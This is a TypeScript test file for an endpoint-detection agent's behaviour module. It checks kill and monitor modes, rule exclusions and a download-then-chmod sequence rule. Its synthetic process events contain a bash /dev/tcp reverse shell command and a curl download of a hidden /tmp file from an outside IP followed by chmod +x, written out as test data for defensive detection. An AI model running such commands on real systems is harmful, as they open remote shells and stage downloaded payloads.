import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { defaultPolicy, type DetectionEvent, type Exclusion, type Mode, type ProcessEvent } from '@yamori/protocol';
import { indexExclusions } from '@yamori/detection';
import { createIsolation, createProcessKiller } from '../commands.ts';
import type { ModuleContext } from '../modules.ts';
import { createProcReader } from '../proc-reader.ts';
import { createProcessTree } from '../process-tree.ts';
import { createResponder } from '../response.ts';
import { createBehaviorModule } from './module.ts';

const REVERSE_SHELL_RULE = '21fafb3a-dbc5-4984-8ee1-7354007e6ddb';
const dirs: string[] = [];
const children: ChildProcess[] = [];
after(() => {
  for (const c of children) c.kill('SIGKILL');
  for (const d of dirs) rmSync(d, { recursive: true, force: true });
});

/** The behaviour module with the real responder, process tree and killer; policy mode and exclusions as given. */
async function harness(mode: Mode, exclusions: Exclusion[] = []) {
  const stateDir = mkdtempSync(join(tmpdir(), 'yamori-behavior-'));
  dirs.push(stateDir);
  const reader = createProcReader();
  let n = 0;
  const tree = createProcessTree({ reader, now: Date.now, newId: () => `id-${++n}` });
  const doc = defaultPolicy();
  doc.modules.behavior.mode = mode;
  doc.exclusions = exclusions;
  const applied = { revision: 1, document: doc, exclusions: indexExclusions(exclusions), blocklist: new Set<string>(), appliedAt: new Date().toISOString() };
  const alerts: DetectionEvent[] = [];
  const respond = createResponder({
    applied: () => applied,
    fallback: doc,
    tree,
    kill: createProcessKiller({ reader }),
    isolation: createIsolation({ runNft: () => Promise.reject(new Error('no isolation in this test')), serverPeers: async () => [], stateDir }),
    record: (a) => alerts.push(...a),
    log: () => undefined,
    now: Date.now,
    newId: () => `alert-${++n}`,
    language: 'en',
  });
  const ctx: ModuleContext = { policy: () => doc, applied: () => applied, record: () => undefined, respond, tree, log: () => undefined, now: Date.now, newId: () => `id-${++n}`, stateDir };
  const module = createBehaviorModule();
  await module.start(ctx);
  return { module, tree, alerts };
}

/** A real, long-lived process and the process-start event a reverse shell would produce for it. */
function victim(): { child: ChildProcess; exited: Promise<NodeJS.Signals | null>; event: (tree: ReturnType<typeof createProcessTree>) => ProcessEvent } {
  const child = spawn('/bin/sleep', ['30'], { stdio: 'ignore' });
  children.push(child);
  const exited = new Promise<NodeJS.Signals | null>((r) => child.once('exit', (_c, s) => r(s)));
  return {
    child,
    exited,
    event: (tree) => {
      tree.seed();
      const proc = tree.toEcs(child.pid ?? 0);
      assert.ok(proc, 'the child is in the tree');
      const cmd = 'bash -i >& /dev/tcp/127.0.0.1/4444 0>&1';
      return {
        '@timestamp': new Date().toISOString(),
        event: { id: 'ev-000001', dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' },
        process: { ...proc, executable: '/usr/bin/bash', args: ['bash', '-c', cmd], command_line: `bash -c ${cmd}` },
      };
    },
  };
}

describe('behaviour module with the real responder', () => {
  it('loads Yamori\'s pack', async () => {
    const { module } = await harness('monitor');
    assert.ok(module.rules().loaded >= 20, `rules loaded: ${module.rules().loaded}`);
    assert.deepEqual(module.rules().errors, []);
    assert.equal(module.state().state, 'active');
  });

  it('block mode: a matching process start kills the process (tree) and records what was done', async () => {
    const { module, tree, alerts } = await harness('block');
    const v = victim();
    module.onEvent?.(v.event(tree));
    assert.equal(await v.exited, 'SIGKILL');
    const a = alerts.find((x) => x.rule.id === REVERSE_SHELL_RULE);
    assert.ok(a, 'an alert was recorded');
    assert.equal(a.yamori.mode, 'block');
    assert.equal(a.yamori.action, 'kill_tree');
    assert.ok(a.threat?.technique.some((t) => t.id === 'T1059.004'), 'ATT&CK technique from the rule tags');
    assert.ok(a.yamori.reasons?.some((r) => r.includes('/dev/tcp/')), 'the command line is in the reasons');
    assert.equal(a.process?.pid, v.child.pid);
  });

  it('monitor mode: nothing is killed, the alert says what would have been done, and repeats are reported once', async () => {
    const { module, tree, alerts } = await harness('monitor');
    const v = victim();
    const ev = v.event(tree);
    module.onEvent?.(ev);
    module.onEvent?.({ ...ev, event: { ...ev.event, id: 'ev-000002' } });
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(v.child.exitCode, null);
    assert.equal(v.child.signalCode, null, 'still running');
    const mine = alerts.filter((x) => x.rule.id === REVERSE_SHELL_RULE);
    assert.equal(mine.length, 1, 'one alert per rule and process');
    assert.equal(mine[0]?.yamori.action, 'none');
    assert.equal(mine[0]?.yamori.would_have, 'kill_tree');
  });

  it('an exclusion of the rule stops both the response and the alert', async () => {
    const { module, tree, alerts } = await harness('block', [{ id: 'ex-rule', kind: 'rule', value: REVERSE_SHELL_RULE }]);
    const v = victim();
    module.onEvent?.(v.event(tree));
    await new Promise((r) => setTimeout(r, 300));
    assert.equal(v.child.signalCode, null, 'not killed');
    assert.equal(alerts.filter((x) => x.rule.id === REVERSE_SHELL_RULE).length, 0);
  });

  it('events with missing fields match nothing and do not throw', async () => {
    const { module, alerts } = await harness('block');
    module.onEvent?.({
      '@timestamp': new Date().toISOString(),
      event: { id: 'ev-000003', dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' },
      process: { entity_id: 'x', pid: 0 },
    });
    assert.equal(alerts.length, 0);
  });
});

describe('behaviour sequences (Sigma correlations) on the agent', () => {
  const start = (n: number, pid: number, parent: string, args: string[]): ProcessEvent => ({
    '@timestamp': new Date().toISOString(),
    event: { id: `ev-seq-${n}`, dataset: 'yamori.process', kind: 'event', category: ['process'], type: ['start'], action: 'exec' },
    process: { entity_id: `ent-${n}`, pid, ppid: 1, executable: `/usr/bin/${args[0] ?? ''}`, args, command_line: args.join(' '), parent: { entity_id: parent, pid: 1 } },
  });
  const SEQ = 'Download Into /tmp Then Made Executable In The Same Process Tree';

  it('download into /tmp then chmod +x from the same shell: one sequence alert; the steps alone report nothing', async () => {
    const { module, alerts } = await harness('monitor');
    module.onEvent?.(start(1, 901, 'shell-a', ['curl', '-so', '/tmp/.x', 'http://203.0.113.9/x']));
    module.onEvent?.(start(2, 902, 'shell-b', ['chmod', '+x', '/tmp/.x'])); // another shell: no sequence
    assert.equal(alerts.length, 0, 'building blocks are silent');
    module.onEvent?.(start(3, 903, 'shell-a', ['chmod', '+x', '/tmp/.x']));
    await new Promise((r) => setTimeout(r, 50));
    assert.deepEqual(alerts.map((a) => a.rule.name), [SEQ]);
    assert.equal(alerts[0]?.rule.level, 'high');
    assert.ok(alerts[0]?.yamori.reasons?.some((r) => r.includes('2 steps')));
  });
});
